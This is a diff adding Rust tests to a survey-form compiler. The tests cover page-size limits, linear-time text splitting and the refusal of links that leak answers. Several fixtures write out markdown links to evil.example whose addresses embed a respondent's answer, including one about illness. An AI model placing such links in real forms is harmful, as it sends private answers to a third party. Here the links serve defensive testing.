@@ -1,6 +1,6 @@
 //! Sheets: what is taken over from them, and each error at its row and column.
 
-use forms::questionnaire::{Compiled, Kind, Questionnaire, SheetCode, parse};
+use forms::questionnaire::{Compiled, Kind, Questionnaire, SheetCode, parse, pieces};
 use proptest::prelude::*;
 use serde_json::json;
 
@@ -327,4 +327,57 @@ proptest! {
         }
         let _ = parse(survey.as_bytes(), Some(CHOICES.as_bytes()), None);
     }
+}
+
+/// Thirty labels of apostrophes gave a page of 5.9 MB, and links as many as fit even more.
+#[test]
+fn a_page_weighs_what_is_sent_of_it() {
+    let labels = |count: usize, label: &str| -> String {
+        "type,name,label\n".to_owned() + &(0..count).map(|n| format!("note,q{n},\"{label}\"\n")).collect::<String>()
+    };
+    for label in ["'".repeat(32_000), "&".repeat(32_000), "[a](http://b)".repeat(2_400), "**a** ".repeat(5_300)] {
+        let refused = refused(&labels(30, &label), "");
+        assert!(refused.iter().all(|error| error.code == SheetCode::TooLarge) && refused[0].row < 31, "{}: {refused:?}", &label[..6]);
+    }
+    form(&labels(30, &"a".repeat(32_000)), "");
+    let hints: String = "type,name,label,guidance_hint,constraint_message,constraint\n".to_owned()
+        + &(0..30).map(|n| format!("text,q{n},Q,{},{},. != ''\n", "a".repeat(20_000), "b".repeat(20_000))).collect::<String>();
+    assert_eq!(refused(&hints, "")[0].code, SheetCode::TooLarge);
+    let groups: String = "type,name,label\nbegin_group,all,All\n".to_owned()
+        + &(0..40).map(|n| format!("begin_group,g{n},{}\ntext,q{n},Q\nend_group,,\n", "a".repeat(30_000))).collect::<String>()
+        + "end_group,,\n";
+    assert_eq!(refused(&groups, "")[0].code, SheetCode::TooLarge);
+}
+
+/// Labels of nothing but what never ends cost seconds at each page.
+#[test]
+fn a_text_is_split_in_one_walk() {
+    let timed = |length: usize| {
+        let text = "${".repeat(length);
+        let begun = std::time::Instant::now();
+        assert_eq!(pieces(&text).count(), 1);
+        begun.elapsed()
+    };
+    let (short, long) = ((0..3).map(|_| timed(20_000)).min().unwrap(), (0..3).map(|_| timed(320_000)).min().unwrap());
+    assert!(long < short * 100 + std::time::Duration::from_millis(20), "{short:?}, {long:?}");
+}
+
+/// An answer in the address of a link is told to the other site by whoever follows it.
+#[test]
+fn an_address_of_a_link_that_quotes_an_answer_is_refused_at_its_row_and_shown_as_text_where_it_is_published() {
+    let survey = "type,name,label,hint\nselect_one yn,ill,Ill?,\nnote,n,Read [our promise](https://evil.example/p?a=${ill}),\n\
+        text,t,[${ill}](https://good.example),[x](mailto:${ill})\n";
+    let choices = "list_name,name,label\nyn,y,Yes\nyn,n,[No](https://evil.example/${ill})\n";
+    let errors = refused(survey, choices);
+    let at = |sheet, row, column| (sheet, row, column, SheetCode::InvalidValue);
+    assert_eq!(places(&errors), [at("survey", 3, "label"), at("survey", 4, "hint"), at("choices", 3, "label")]);
+    let good = form("type,name,label\nselect_one yn,ill,Ill?\nnote,n,Read [this](https://good.example/x)\n", "list_name,name,label\nyn,y,Yes\n");
+    let mut stored = serde_json::to_value(good.into_questionnaire()).unwrap();
+    stored["questions"][1]["label"] = serde_json::json!({"und": "Read [this](https://evil.example/x?${ill})"});
+    let before = Compiled::new(serde_json::from_value(stored).unwrap()).expect("what was published goes on");
+    let answers = crate::answered(serde_json::json!({"ill": "y"}));
+    let relevance = forms::answers::Relevance::of(&before, &answers, crate::today());
+    let label = &before.questionnaire().questions[1].label;
+    assert_eq!(relevance.fill(label, "und"), "Read [this](https://evil.example/x?Yes)");
+    assert!(!relevance.fill_html(label, "und").unwrap_or_default().contains("href"));
 }
